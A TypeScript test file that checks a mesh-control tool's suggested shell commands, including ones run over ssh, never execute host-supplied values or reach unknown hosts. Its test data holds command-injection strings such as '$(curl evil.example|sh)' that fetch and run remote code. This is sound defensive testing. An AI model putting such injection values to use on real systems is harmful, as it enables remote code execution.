import { spawnSync } from "node:child_process";
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { commandLine, commandOn, withFlags } from "../../src/command-line.ts";
import { statusOf } from "../../src/status/status-of.ts";
import { HOSTILE } from "../hostile-values.ts";
import type { World } from "../steps/watcher/world.ts";
import { type MeshModel, viewOf } from "./world.ts";

let folder: string;

beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), "meshctl-pasted-"));
  mkdirSync(join(folder, "bin"));
  // As ssh does it: a shell on the host reads the words once more. What a shell runs besides leaves a mark.
  program("ssh", `printf '%s\\0' "$1" >>"$FOLDER/hops"; shift; exec /bin/sh -c "$*"`);
  for (const name of ["touch", "curl", "sh", "evil"]) program(name, `: >"$FOLDER/pwned"`);
  for (const name of ["meshctl", "ss", "cat", "sudo", "timeout", "bash"])
    program(name, `printf '%s\\0' "$@" >>"$FOLDER/words"`);
});
afterAll(() => rmSync(folder, { recursive: true }));

function program(name: string, text: string): void {
  const path = join(folder, "bin", name);
  writeFileSync(path, `#!/bin/sh\n${text}\n`);
  chmodSync(path, 0o755);
}

/** Pastes command lines, each in a shell of its own; tells to which hosts they went, and with which words they ended there. */
function paste(lines: readonly string[], shell = "sh") {
  for (const mark of ["hops", "words", "pwned"]) rmSync(join(folder, mark), { force: true });
  const env = { PATH: join(folder, "bin"), FOLDER: folder };
  // A line that no shell can read ends its own subshell only.
  const each = 'for line do (eval "$line") </dev/null; done';
  spawnSync(`/bin/${shell}`, ["-c", each, shell, ...lines], { env, cwd: folder });
  const read = (mark: string) =>
    existsSync(join(folder, mark)) ? readFileSync(join(folder, mark), "utf8").split("\0").slice(0, -1) : [];
  const isPwned = existsSync(join(folder, "pwned")) || existsSync("/tmp/meshctl-pwned");
  return { hops: read("hops"), words: read("words"), isPwned };
}

const KNOWN_HOSTS = ["a", "b", "c", "app-1", "zk-1", "zk-2", "zk-3"];

/** Everything that a host, a member of the ensemble or a backend may say of itself is `value`. */
function lies(value: string): readonly MeshModel[] {
  const names = [value, `${value}:9001`, `x_${value}:9001`, `10.0.0.21:${value}`, `${value}_10.6.6.6:80`];
  const children = { [value]: "{}", b: JSON.stringify({ host: value, port: value, name: value }) };
  const registry = { member: `${value}:2181`, children: new Map([["user-api", new Map()]]) };
  const install = { outcome: "invalid", digest: "", message: value };
  const worlds: World[] = [
    ...names.map((name) => ({ inForce: { [name]: "DOWN" }, onDisk: [name], children })),
    { inForce: {}, onDisk: [], facts: { registry } },
    { facts: { install } },
  ];
  return worlds.map((watcher) => ({ proxies: { a: { watcher } } }));
}

describe("what a person is told to type", () => {
  const values = [...HOSTILE, "$(curl evil.example|sh)", "$(curl${IFS}evil.example|sh)", "`evil`", "$(evil)"];

  const found = values
    .filter((value) => value.length < 1000)
    .flatMap((value) => lies(value).flatMap((model) => statusOf(viewOf(model)).problems));
  const lines = [...new Set(found.map(({ next }) => next))];

  it.each(["sh", "bash"])(
    "runs nothing that a host said, and goes to no host but the inventory's: %s",
    (shell) => {
      const { hops, isPwned } = paste(lines, shell);
      expect(isPwned).toBe(false);
      expect(found.length).toBeGreaterThan(values.length);
      expect(hops).not.toEqual([]);
      expect(hops.filter((hop) => !KNOWN_HOSTS.includes(hop))).toEqual([]);
    },
  );

  it.each(["sh", "bash"])(
    "reaches the program as it was meant, also through the host's shell: %s",
    (shell) => {
      // A shell has no NUL in a word, nor half a character.
      const words = values.filter((value) => value.length < 10_000 && !/[\0\p{Surrogate}]/u.test(value));
      const { words: read, isPwned } = paste(
        [commandLine("cat", ...words), commandOn("a", "cat", ...words)],
        shell,
      );
      expect(read).toEqual([...words, ...words]);
      expect(isPwned).toBe(false);
    },
  );

  it("takes the names of our files behind the verb of our own commands", () => {
    const flags = ["-i", "my files/i.yaml"];
    expect(withFlags(commandLine("meshctl", "verify", "-l", "a"), flags)).toBe(
      "meshctl verify -i 'my files/i.yaml' -l a",
    );
    expect(withFlags(commandOn("a", "ss"), flags)).toBe("ssh a ss");
  });
});
